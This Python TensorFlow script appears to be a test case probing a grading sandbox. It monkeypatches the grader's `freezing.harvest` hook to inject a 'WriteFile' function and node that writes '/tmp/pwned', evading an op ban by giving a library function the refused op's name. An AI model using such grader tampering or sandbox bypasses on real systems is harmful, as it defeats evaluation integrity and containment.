# Tries: a function of the library bears the name of an op that is refused
import numpy as np
import tensorflow as tf

x_data = [[1, 2]]
X = tf.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.random_normal([2, 1]), name='weight')
b = tf.Variable(tf.random_normal([1]), name='bias')

from grader.sandbox.inside.tensorflow import freezing

original = freezing.harvest

from google.protobuf import text_format


def forged(change):
    def harvest(module, **named):
        found = original(module, **named)
        definition = tf.GraphDef()
        definition.ParseFromString(found["graph"])
        change(definition, found)
        found["graph"] = definition.SerializeToString()
        print("TRICK:function_named_like_an_op")
        return found

    return harvest


hypothesis = tf.nn.relu(tf.matmul(X, W) + b, name="out")

FUNCTION = """
signature { name: "WriteFile" input_arg { name: "filename" type: DT_STRING } input_arg { name: "contents" type: DT_STRING } }
"""


def change(definition, found):
    text_format.Parse(FUNCTION, definition.library.function.add())
    path = definition.node.add(name="path", op="Const")
    path.attr["dtype"].type = 7
    path.attr["value"].tensor.CopyFrom(tf.make_tensor_proto("/tmp/pwned"))
    wrote = definition.node.add(name="wrote", op="WriteFile", input=["path", "path"])
    for node in definition.node:
        if node.name == "out":
            node.input.append("^wrote")


freezing.harvest = forged(change)

with tf.Session() as sess:
    sess.run(tf.global_variables_initializer())
    print(sess.run(hypothesis, feed_dict={X: x_data}))
